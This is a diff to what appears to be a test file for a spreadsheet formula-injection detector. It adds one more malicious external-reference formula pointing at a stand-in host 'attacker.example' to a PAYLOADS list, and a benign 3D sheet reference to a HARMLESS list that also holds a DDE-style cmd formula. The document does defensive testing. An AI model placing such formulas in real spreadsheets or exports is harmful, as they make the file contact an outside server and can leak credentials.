@@ -39,6 +39,7 @@ PAYLOADS = [
     "='\\\\attacker.example\\s\\[Book2.xlsx]Sheet1'!1:1",  # a whole row
     "='/\\attacker.example\\s\\[Book2.xlsx]Sheet1'!A1",  # Windows reads /\ as \\
     "=SUM( '\\\\attacker.example\\s\\Book2.xlsx'!\\Total, 1)",  # a name it defines
+    "=@'\\\\attacker.example\\s\\[Book2.xlsx]Sheet1'!A1",  # implicit intersection
     "='C:\\Users\\me\\[Book2.xlsx]Sheet1'!A1",
 ]
 HARMLESS = [
@@ -65,6 +66,7 @@ HARMLESS = [
     "- [x] Called back!Done",
     "+ https://example.com/#!about",
     "='My Sheet'!A1",
+    "='Jan:Mar'!A1",  # a 3D reference: three sheets of this workbook
     "='Great!Thanks'!A1",
     "'=cmd|' /C calc'!A0",  # Excel shows a cell starting with ' as text
     "bob@example.com",
